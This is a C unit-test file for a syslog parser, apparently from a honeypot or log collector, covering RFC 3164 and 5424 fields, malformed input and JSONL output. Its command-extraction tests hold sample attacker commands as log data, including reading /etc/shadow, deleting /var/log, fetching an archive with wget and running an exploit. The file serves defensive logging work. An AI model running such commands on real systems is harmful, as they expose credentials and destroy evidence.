/*
 * Unit tests of syslogmsg: RFC 3164 and RFC 5424 fields, missing and bad
 * PRI, NUL bytes, garbage, structured data with escapes, command-line
 * recognition, and the exact syslog.jsonl line.
 */
#include <ftw.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include "testutil.h"
#include "syslogmsg.h"

static char tmpdir[256];

static int
rm_cb(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st; (void)flag; (void)ftw;
	return remove(path);
}

static int
setup(void **state)
{
	(void)state;
	log_init("test_syslog", 0);
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/fbslXXXXXX");
	assert_non_null(mkdtemp(tmpdir));
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	nftw(tmpdir, rm_cb, 16, FTW_DEPTH | FTW_PHYS);
	return 0;
}

static void
parse(const char *s, struct syslog_msg *m)
{
	syslog_parse((const uint8_t *)s, strlen(s), m);
}

static void
field_eq(const struct syslog_field *f, const char *want)
{
	if (want == NULL) {
		assert_null(f->p);
		return;
	}
	assert_non_null(f->p);
	assert_int_equal(f->n, strlen(want));
	assert_memory_equal(f->p, want, f->n);
}

static void
test_rfc3164(void **state)
{
	struct syslog_msg m;

	(void)state;
	parse("<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8", &m);
	assert_int_equal(m.pri, 34);
	assert_int_equal(m.fmt, SYSLOG_FMT_3164);
	assert_string_equal(syslog_facility_name(m.pri), "auth");
	assert_string_equal(syslog_severity_name(m.pri), "crit");
	field_eq(&m.timestamp, "Oct 11 22:14:15");
	field_eq(&m.host, "mymachine");
	field_eq(&m.app, "su");
	field_eq(&m.procid, NULL);
	field_eq(&m.msg, "'su root' failed for lonvick on /dev/pts/8");
	assert_int_equal(m.flags, 0);

	/* Zeek syslog-single-udp: no host, trailing NUL. */
	syslog_parse((const uint8_t *)"<133>Apr  5 12:56:51 robin: Hello, syslog!\0", 43, &m);
	assert_int_equal(m.pri, 133);
	assert_string_equal(syslog_facility_name(m.pri), "local0");
	assert_string_equal(syslog_severity_name(m.pri), "notice");
	field_eq(&m.timestamp, "Apr  5 12:56:51");
	field_eq(&m.host, NULL);
	field_eq(&m.app, "robin");
	field_eq(&m.msg, "Hello, syslog!");
	assert_int_equal(m.flags, SYSLOG_F_NUL);

	parse("<13>Nov 26 20:19:23 hp1 sshd[4242]: Accepted password for root\n", &m);
	field_eq(&m.host, "hp1");
	field_eq(&m.app, "sshd");
	field_eq(&m.procid, "4242");
	field_eq(&m.msg, "Accepted password for root");

	/* No timestamp: tag only (busybox, logger -u). */
	parse("<13>cron[7]: job done", &m);
	assert_int_equal(m.fmt, SYSLOG_FMT_3164);
	field_eq(&m.timestamp, NULL);
	field_eq(&m.app, "cron");
	field_eq(&m.procid, "7");
	field_eq(&m.msg, "job done");

	/* rsyslog's RFC 3339 timestamps in the traditional layout. */
	parse("<14>2026-11-26T20:19:23.123456+00:00 hp2 app: x y", &m);
	field_eq(&m.timestamp, "2026-11-26T20:19:23.123456+00:00");
	field_eq(&m.host, "hp2");
	field_eq(&m.app, "app");
	field_eq(&m.msg, "x y");

	/* Timestamp and host but no tag: the rest is the message. */
	parse("<14>Jan  1 00:00:00 host just text", &m);
	field_eq(&m.host, "host");
	field_eq(&m.app, NULL);
	field_eq(&m.msg, "just text");
}

static void
test_rfc5424(void **state)
{
	struct syslog_msg m;

	(void)state;
	parse("<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 "
	    "[exampleSDID@32473 iut=\"3\" eventSource=\"Application\" eventID=\"1011\"]"
	    "[examplePriority@32473 class=\"high\"] \xef\xbb\xbf" "An application event", &m);
	assert_int_equal(m.pri, 165);
	assert_int_equal(m.fmt, SYSLOG_FMT_5424);
	field_eq(&m.timestamp, "2003-10-11T22:14:15.003Z");
	field_eq(&m.host, "mymachine.example.com");
	field_eq(&m.app, "evntslog");
	field_eq(&m.procid, NULL);
	field_eq(&m.msgid, "ID47");
	field_eq(&m.sd, "[exampleSDID@32473 iut=\"3\" eventSource=\"Application\" "
	    "eventID=\"1011\"][examplePriority@32473 class=\"high\"]");
	field_eq(&m.msg, "An application event");

	parse("<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - "
	    "'su root' failed", &m);
	field_eq(&m.sd, NULL);
	field_eq(&m.app, "su");
	field_eq(&m.msg, "'su root' failed");

	/* Escaped ] and " inside a value do not end the element. */
	parse("<13>1 - - - - - [a@1 x=\"q\\]\\\"z\"]", &m);
	assert_int_equal(m.fmt, SYSLOG_FMT_5424);
	field_eq(&m.timestamp, NULL);
	field_eq(&m.sd, "[a@1 x=\"q\\]\\\"z\"]");
	field_eq(&m.msg, NULL);

	/* util-linux logger's form. */
	parse("<13>1 2026-11-26T20:19:23.5+00:00 hp1 root 99 - [timeQuality tzKnown=\"1\"] hello", &m);
	field_eq(&m.app, "root");
	field_eq(&m.procid, "99");
	field_eq(&m.msg, "hello");

	/* Broken 5424 header: everything after PRI is the message. */
	parse("<13>1 [unterminated", &m);
	assert_int_equal(m.fmt, SYSLOG_FMT_RAW);
	assert_int_equal(m.flags, SYSLOG_F_BAD_HEADER);
	field_eq(&m.msg, "1 [unterminated");
	parse("<13>1 ts host app pid id [x", &m);
	assert_int_equal(m.flags, SYSLOG_F_BAD_HEADER);
	field_eq(&m.app, NULL);
}

static void
test_garbage(void **state)
{
	struct syslog_msg m;
	static const uint8_t nul[] = { 'a', 0, 'b' };

	(void)state;
	/* Zeek syslog-missing-pri. */
	parse("This is not really a syslog message #173538 1552584410.781186", &m);
	assert_int_equal(m.pri, -1);
	assert_int_equal(m.fmt, SYSLOG_FMT_RAW);
	assert_int_equal(m.flags, SYSLOG_F_NO_PRI);
	assert_null(syslog_facility_name(m.pri));
	field_eq(&m.msg, "This is not really a syslog message #173538 1552584410.781186");

	parse("<192>x", &m);
	assert_int_equal(m.pri, -1);
	assert_int_equal(m.flags, SYSLOG_F_BAD_PRI);
	field_eq(&m.msg, "<192>x");
	parse("<013>x", &m);
	assert_int_equal(m.flags, SYSLOG_F_BAD_PRI);
	parse("<1", &m);
	assert_int_equal(m.flags, SYSLOG_F_BAD_PRI);
	parse("<>", &m);
	assert_int_equal(m.flags, SYSLOG_F_BAD_PRI);
	parse("<0>", &m);
	assert_int_equal(m.pri, 0);
	assert_int_equal(m.fmt, SYSLOG_FMT_RAW);
	field_eq(&m.msg, "");

	syslog_parse(nul, sizeof(nul), &m);
	assert_int_equal(m.flags, SYSLOG_F_NO_PRI | SYSLOG_F_NUL);
	assert_int_equal(m.msg.n, 3);
	syslog_parse(NULL, 0, &m);
	assert_int_equal(m.flags, SYSLOG_F_NO_PRI);
	assert_int_equal(m.msg.n, 0);

	/* A tag longer than 48 bytes is not a tag. */
	parse("<13>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa: x", &m);
	field_eq(&m.app, NULL);
	/* Every prefix of a message parses within bounds (ASan checks). */
	{
		const char *full = "<165>1 2003-10-11T22:14:15.003Z host app 12 ID [a b=\"c\\\"\"] m";
		for (size_t i = 0; i <= strlen(full); i++) {
			uint8_t *copy = malloc(i + 1);
			memcpy(copy, full, i);
			syslog_parse(copy, i, &m);
			free(copy);
		}
	}
}

static void
cmd_eq(const char *app, const char *msg, const char *want)
{
	struct syslog_msg m;
	const uint8_t *c;
	size_t n;

	memset(&m, 0, sizeof(m));
	if (app != NULL) {
		m.app.p = (const uint8_t *)app;
		m.app.n = strlen(app);
	}
	m.msg.p = (const uint8_t *)msg;
	m.msg.n = strlen(msg);
	if (want == NULL) {
		assert_false(syslog_command(&m, &c, &n));
		return;
	}
	assert_true(syslog_command(&m, &c, &n));
	assert_int_equal(n, strlen(want));
	assert_memory_equal(c, want, n);
}

static void
test_commands(void **state)
{
	(void)state;
	cmd_eq("bash", "HISTORY: PID=1234 UID=0 wget http://x/a.tgz", "wget http://x/a.tgz");
	cmd_eq("root", "root [4321]: cat /etc/shadow [0]", "cat /etc/shadow");
	cmd_eq("root", "root [4321]: ls [x]", "ls [x]");
	cmd_eq("root", "root [4321]: echo [12]", "echo");
	cmd_eq("audit", "user=root pwd=/tmp cmd=./exploit -p 22", "./exploit -p 22");
	cmd_eq("audit", "uid=0 cmd=\"rm -rf /var/log\" rc=0", "rm -rf /var/log");
	cmd_eq("-bash", "  uname -a  ", "uname -a");
	cmd_eq("bash", "   ", NULL);
	cmd_eq("sshd", "Accepted password for root", NULL);
	cmd_eq("kernel", "xcmd=1", NULL);
	cmd_eq(NULL, "HISTORY: PID=x UID=0 ls", NULL);
}

static void
test_jsonl(void **state)
{
	struct syslog_sink sink;
	struct syslog_origin o = { .source = "wire", .transport = "udp", .peer_port = 40000,
	    .dst_port = 514 };
	char path[512], line[2048];
	const char raw[] = "<86>Nov 26 20:19:23 hp1 bash: HISTORY: PID=7 UID=0 id\x01\"";
	FILE *f;

	(void)state;
	memset(&sink, 0, sizeof(sink));
	sink.events = event_log_open(tmpdir, NULL);
	assert_non_null(sink.events);
	assert_int_equal(addr_parse("10.0.0.5", &o.peer), 0);
	assert_int_equal(addr_parse("10.0.0.1", &o.dst), 0);
	/* 2026-11-26T20:19:23.5Z */
	syslog_sink_message(&sink, 1795724363LL * FB_NS_PER_SEC + 500000000, &o,
	    (const uint8_t *)raw, strlen(raw), 0);
	syslog_sink_message(&sink, 1795724364LL * FB_NS_PER_SEC, &o,
	    (const uint8_t *)"junk", 4, SYSLOG_F_TRUNCATED);
	event_log_close(sink.events);
	snprintf(path, sizeof(path), "%s/2026-11-26/syslog.jsonl", tmpdir);
	assert_non_null(f = fopen(path, "r"));
	assert_non_null(fgets(line, sizeof(line), f));
	assert_string_equal(line,
	    "{\"ts\":\"2026-11-26T20:19:23.500000Z\",\"source\":\"wire\",\"transport\":\"udp\","
	    "\"peer\":\"10.0.0.5\",\"peer_port\":40000,\"dst\":\"10.0.0.1\",\"dst_port\":514,"
	    "\"format\":\"rfc3164\",\"pri\":86,\"facility\":\"authpriv\",\"severity\":\"info\","
	    "\"timestamp\":\"Nov 26 20:19:23\",\"host\":\"hp1\",\"app\":\"bash\","
	    "\"msg\":\"HISTORY: PID=7 UID=0 id\\u0001\\\"\",\"command\":\"id\\u0001\\\"\","
	    "\"raw\":\"<86>Nov 26 20:19:23 hp1 bash: HISTORY: PID=7 UID=0 id\\u0001\\\"\"}\n");
	assert_non_null(fgets(line, sizeof(line), f));
	assert_string_equal(line,
	    "{\"ts\":\"2026-11-26T20:19:24.000000Z\",\"source\":\"wire\",\"transport\":\"udp\","
	    "\"peer\":\"10.0.0.5\",\"peer_port\":40000,\"dst\":\"10.0.0.1\",\"dst_port\":514,"
	    "\"format\":\"raw\",\"msg\":\"junk\",\"flags\":[\"no_pri\",\"truncated\"],"
	    "\"raw\":\"junk\"}\n");
	assert_null(fgets(line, sizeof(line), f));
	fclose(f);
	assert_int_equal(sink.st.messages, 2);
	assert_int_equal(sink.st.rfc3164, 1);
	assert_int_equal(sink.st.raw, 1);
	assert_int_equal(sink.st.no_pri, 1);
	assert_int_equal(sink.st.truncated, 1);
	assert_int_equal(sink.st.commands, 1);
	assert_int_equal(sink.st.write_errors, 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rfc3164),
		cmocka_unit_test(test_rfc5424),
		cmocka_unit_test(test_garbage),
		cmocka_unit_test(test_commands),
		cmocka_unit_test_setup_teardown(test_jsonl, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
